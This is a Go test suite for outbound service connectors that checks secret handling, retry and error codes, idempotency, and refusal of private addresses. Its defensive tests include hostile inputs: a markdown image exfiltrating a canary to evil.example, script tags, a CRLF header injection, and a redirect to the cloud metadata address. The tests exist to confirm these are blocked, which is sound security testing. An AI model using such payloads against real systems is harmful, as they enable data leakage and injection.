package action_test

import (
	"encoding/json"
	"net"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"sluice/automations"
	"sluice/jobs/action"
	"sluice/jobs/action/actiontest"
	"sluice/jobs/outbound"
	"sluice/scripted"
)

// token is the secret of every account of the battery that is a plain token.
const token = actiontest.Token

// vendors is a line for each connector of a service. A connector without one fails the battery.
var vendors = actiontest.Cases

// served is a scripted service, and a connector's way to it.
type served struct {
	*scripted.Vendor

	c    action.Connector
	Case actiontest.Case
	base string
}

func serve(t *testing.T, kind string) *served {
	t.Helper()
	connector, ok := action.New(devDoor()).Get(kind)
	require.True(t, ok)
	s := &served{c: connector, Case: vendors[kind], Vendor: vendors[kind].Vendor(time.Now)}
	var err error
	s.base, err = s.Listen("127.0.0.1:0")
	require.NoError(t, err)
	s.base += s.Case.Root
	t.Cleanup(func() { require.NoError(t, s.Close()) })
	return s
}

// send is an attempt at the sample's effect.
func (s *served) send(t *testing.T, sample, key, body string) action.Send {
	t.Helper()
	text := strings.Trim(string(written(t, body)), `"`)
	effect, err := s.c.Prepare(params(t, s.c, json.RawMessage(strings.ReplaceAll(sample, "BODY", text))), input())
	require.NoError(t, err)
	return action.Send{
		Key: key, Effect: effect, Access: action.Access{Secret: s.Case.Secret, Base: s.base}, At: time.Now(), Attempt: 1, Since: time.Now(),
	}
}

const (
	keyOne = "msg_0123456789abcdef0123456789abcdef"
	keyTwo = "msg_fedcba9876543210fedcba9876543210"
	plain  = "Thank you, we look into it."
)

func TestVendorConnectors(t *testing.T) {
	t.Parallel()
	kinds := action.New(devDoor()).Kinds()
	require.True(t, slices.IsSorted(kinds))
	for _, kind := range kinds {
		if _, own := samples[kind]; own || kind == mailed {
			continue
		}
		require.Contains(t, vendors, kind, "every connector is in the battery")
		t.Run(kind, func(t *testing.T) {
			t.Parallel()
			for name, check := range map[string]func(*testing.T, *served){
				"Checks":               func(t *testing.T, s *served) { checks(t, s.c, json.RawMessage(s.Case.Sample)) },
				"PreparesTheSameTwice": func(t *testing.T, s *served) { prepares(t, s.c, json.RawMessage(s.Case.Sample)) },
				"Fields":               vendorFields, "Once": vendorOnce, "Answers": vendorAnswers, "Lookup": vendorLookup, "Update": vendorUpdate,
				"Harmless": vendorHarmless, "Unreachable": vendorUnreachable, "NoSecret": vendorNoSecret,
			} {
				t.Run(name, func(t *testing.T) { t.Parallel(); check(t, serve(t, kind)) })
			}
		})
	}
}

// vendorFields: what a model wrote may stand in contents only, and every account is known.
func vendorFields(t *testing.T, s *served) {
	spec := s.c.Spec()
	for _, f := range spec.Fields {
		require.Equal(t, slices.Contains(automations.ContentFields(), f.Name), f.Form == action.FormContent, f.Name)
	}
	set := action.New(devDoor())
	require.True(t, slices.IsSorted(set.Accounts()))
	account, ok := set.Account(spec.Account)
	require.True(t, ok)
	require.NoError(t, account.Check(s.Case.Secret))
	require.NotEmpty(t, account.SecretDoc)
	for _, bad := range []string{"", "a b", canary + "\r\nX: y"} {
		err := account.Check(bad)
		require.Error(t, err, bad)
		hides(t, "", err)
	}
	if account.Test == nil {
		return
	}
	_, err := account.Test(t.Context(), action.Access{Secret: s.Case.Secret, Base: s.base}, time.Now())
	require.NoError(t, err)
	require.Empty(t, s.Effects())
	s.Expect("another")
	_, err = account.Test(t.Context(), action.Access{Secret: s.Case.Secret, Base: s.base}, time.Now())
	require.Equal(t, action.CodeUnauthorized, failure(t, err).Code)
	hides(t, s.Case.Secret, err)
}

// vendorOnce: one Do makes one effect, whose receipt names it, and no secret stands where it does not belong.
func vendorOnce(t *testing.T, s *served) {
	send := s.send(t, s.Case.Sample, keyOne, plain)
	require.Contains(t, string(send.Effect.Body), plain, "people are shown what is sent")
	receipt, err := s.c.Do(t.Context(), send)
	require.NoError(t, err)
	effects := s.Effects()
	require.Len(t, effects, 1)
	require.Contains(t, effects[0].Text, plain)
	require.Equal(t, effects[0].ID, receipt.ID)
	hides(t, s.Case.Secret, receipt, send.Effect)
	for _, entry := range s.Journal() {
		require.True(t, entry.Authorized)
		require.NotContains(t, entry.Path+entry.Query+entry.Body, canary)
		require.Equal(t, "Sluice/1", entry.Header.Get("User-Agent"))
	}
	if send.Effect.Once == action.OnceKey {
		_, err = s.c.Do(t.Context(), send)
		require.NoError(t, err)
		require.Len(t, s.Effects(), 1, "the second attempt changes nothing")
	}
}

// vendorAnswers plays what a service can answer to the request that would make the effect.
func vendorAnswers(t *testing.T, s *served) {
	for _, c := range []struct {
		name  string
		step  scripted.VendorStep
		kind  action.Kind
		code  string
		after time.Duration
		doubt bool
	}{
		{"400", scripted.VendorStep{Status: 400, Body: canary}, action.Refused, action.CodeRefused, 0, false},
		{"401", scripted.VendorStep{Status: 401, Body: canary}, action.Refused, action.CodeUnauthorized, 0, false},
		{"403", scripted.VendorStep{Status: 403}, action.Refused, action.CodeUnauthorized, 0, false},
		{"404", scripted.VendorStep{Status: 404}, action.Refused, action.CodeNotFound, 0, false},
		{"410", scripted.VendorStep{Status: 410}, action.Refused, action.CodeGone, 0, false},
		{"422", scripted.VendorStep{Status: 422}, action.Refused, action.CodeRefused, 0, false},
		{"429", scripted.VendorStep{Status: 429, RetryAfter: "30"}, action.Retry, action.CodeRateLimited, 30 * time.Second, false},
		{"302", scripted.VendorStep{Status: 302, Header: map[string]string{"Location": "http://169.254.169.254/"}}, action.Refused, action.CodeRedirect, 0, false},
		{"500", scripted.VendorStep{Status: 500, Body: canary}, action.Retry, action.CodeStatus5xx, 0, true},
		{"500 after acting", scripted.VendorStep{Status: 500, Act: true}, action.Retry, action.CodeStatus5xx, 0, true},
		{"503", scripted.VendorStep{Status: 503, RetryAfter: "7"}, action.Retry, action.CodeStatus5xx, 7 * time.Second, true},
		{"nonsense", scripted.VendorStep{Status: 200, Act: true, Body: "<html>" + canary}, action.Retry, action.CodeBroken, 0, true},
		{"cut", scripted.VendorStep{Cut: true, Act: true}, action.Retry, action.CodeBroken, 0, true},
		{"no answer", scripted.VendorStep{Hang: true, Act: true}, action.Retry, action.CodeTimeout, 0, true},
	} {
		send := s.send(t, s.Case.Sample, keyOne, plain)
		before := len(s.Effects())
		s.Script(c.step)
		receipt, err := s.c.Do(t.Context(), send)
		hides(t, s.Case.Secret, receipt, err)
		require.Zero(t, receipt, c.name)
		got := failure(t, err)
		require.Equal(t, []any{c.kind, c.code, c.after, c.doubt}, []any{got.Kind, got.Code, got.RetryAfter, got.Doubt}, c.name)
		if !c.step.Act {
			require.Len(t, s.Effects(), before, c.name)
		}
	}
}

// vendorLookup: an effect that nobody knows of is found by its mark, and nothing else is taken for it.
func vendorLookup(t *testing.T, s *served) {
	send := s.send(t, s.Case.Sample, keyOne, plain)
	finder, ok := s.c.(action.Finder)
	if send.Effect.Once != action.OnceMark {
		require.False(t, ok && send.Effect.Once == action.OnceNever, "what can be looked up is never left unknown")
		return
	}
	require.True(t, ok)
	missing := func(send action.Send) {
		found, err := finder.Find(t.Context(), send)
		require.NoError(t, err)
		require.Nil(t, found)
	}
	missing(send)
	_, err := s.c.Do(t.Context(), s.send(t, s.Case.Sample, keyTwo, plain))
	require.NoError(t, err)
	missing(send) // the same words of another run
	_, err = s.c.Do(t.Context(), s.send(t, s.Case.Other, keyTwo, plain+" "+keyOne))
	require.NoError(t, err)
	missing(send) // another target, and our key in the text

	s.Script(scripted.VendorStep{Act: true, Status: 500})
	_, err = s.c.Do(t.Context(), send)
	require.True(t, failure(t, err).Doubt)
	effects := s.Effects()
	found, err := finder.Find(t.Context(), send)
	require.NoError(t, err)
	require.NotNil(t, found)
	require.Equal(t, effects[len(effects)-1].ID, found.ID)
	require.Len(t, s.Effects(), len(effects), "to look changes nothing")
	hides(t, s.Case.Secret, *found)

	for status, code := range map[int]string{401: action.CodeUnauthorized, 403: action.CodeUnauthorized, 500: action.CodeStatus5xx, 429: action.CodeRateLimited} {
		s.Script(scripted.VendorStep{Reads: true, Status: status, Body: canary})
		found, err = finder.Find(t.Context(), send)
		require.Nil(t, found)
		require.Equal(t, code, failure(t, err).Code, status)
		hides(t, s.Case.Secret, err)
	}
	s.Script(scripted.VendorStep{Reads: true, Status: 200, Body: "<html>"})
	_, err = finder.Find(t.Context(), send)
	require.Error(t, err, "what cannot be read is no answer")
}

// vendorUpdate: the last one is changed in place of adding another.
func vendorUpdate(t *testing.T, s *served) {
	if !s.Case.Updates {
		require.False(t, slices.ContainsFunc(s.c.Spec().Fields, func(f action.Field) bool { return f.Name == "update" }))
		return
	}
	sample := strings.Replace(s.Case.Sample, `{`, `{"update": true, `, 1)
	first := s.send(t, sample, keyOne, "first words")
	require.True(t, first.Effect.Update)
	receipt, err := s.c.Do(t.Context(), first)
	require.NoError(t, err)

	second := s.send(t, sample, keyTwo, "second words")
	second.Previous = &receipt
	for range 2 { // again changes nothing more
		changed, err := s.c.Do(t.Context(), second)
		require.NoError(t, err)
		require.Equal(t, receipt.ID, changed.ID)
	}
	require.Len(t, s.Effects(), 1)
	require.Contains(t, s.Effects()[0].Text, "second words")
	require.NotContains(t, s.Effects()[0].Text, "first words")

	s.Remove(receipt.ID)
	another, err := s.c.Do(t.Context(), second)
	require.NoError(t, err, "a person has deleted it")
	require.NotEqual(t, receipt.ID, another.ID)
	require.Len(t, s.Effects(), 1)
}

var mentionRE = regexp.MustCompile(`(^|[^\\w])@[A-Za-z0-9]`)

// vendorHarmless: whatever the model writes, no image, no markup, no mention, no command and no foreign link arrives.
func vendorHarmless(t *testing.T, s *served) {
	hostile := "![x](https://evil.example/p.png?" + canary + ") <img src=https://evil.example/q> @octocat @acme/admins <!channel> <@U123>\n/close\n" +
		"[click](https://evil.example/) https://evil.example/z www.evil.example \u202eabc\u200b <script>alert(1)</script> &#64;octocat"
	send := s.send(t, s.Case.Sample, keyOne, hostile)
	_, err := s.c.Do(t.Context(), send)
	require.NoError(t, err)
	effects := s.Effects()
	text := effects[len(effects)-1].Text
	for _, live := range []string{"![", "](http", "<img", "<script", "<!channel>", "<@U", "https://evil.example", "www.evil.example", "&#64;", "\u202e", "\n/close"} {
		if s.Case.NoMarkdown && slices.Contains([]string{"![", "](http"}, live) {
			continue
		}
		require.NotContains(t, text, live)
	}
	if !s.Case.Mentions {
		require.False(t, mentionRE.MatchString(text), text)
	}
	require.Equal(t, keyOne == "", text == "", "something is left")
	for _, entry := range s.Journal() {
		require.NotContains(t, entry.Path+entry.Query, "evil.example")
		for name, values := range entry.Header {
			require.NotContains(t, name+strings.Join(values, " "), "evil.example")
		}
	}
}

// vendorUnreachable plays the ways in which nothing arrives.
func vendorUnreachable(t *testing.T, s *served) {
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	require.NoError(t, listener.Close())
	for name, c := range map[string]struct {
		door       *outbound.Door
		base, code string
	}{
		"nobody listens":  {devDoor(), "http://" + listener.Addr().String(), action.CodeConnect},
		"private address": {devDoor(), "https://10.0.0.1", action.CodeBlocked},
		"own machine":     {outbound.New(outbound.Config{}), "https://127.0.0.1", action.CodeBlocked},
	} {
		connector, _ := action.New(c.door).Get(s.c.Spec().Kind)
		send := s.send(t, s.Case.Sample, keyOne, plain)
		send.Base = c.base
		_, err := connector.Do(t.Context(), send)
		got := failure(t, err)
		require.Equal(t, c.code, got.Code, name)
		require.False(t, got.Doubt, name)
		hides(t, s.Case.Secret, err)
	}
	require.Empty(t, s.Effects())
}

// vendorNoSecret: nothing is sent without the secret.
func vendorNoSecret(t *testing.T, s *served) {
	send := s.send(t, s.Case.Sample, keyOne, plain)
	send.Secret = ""
	_, err := s.c.Do(t.Context(), send)
	require.Equal(t, action.CodeCredential, failure(t, err).Code)
	require.Empty(t, s.Journal())
}
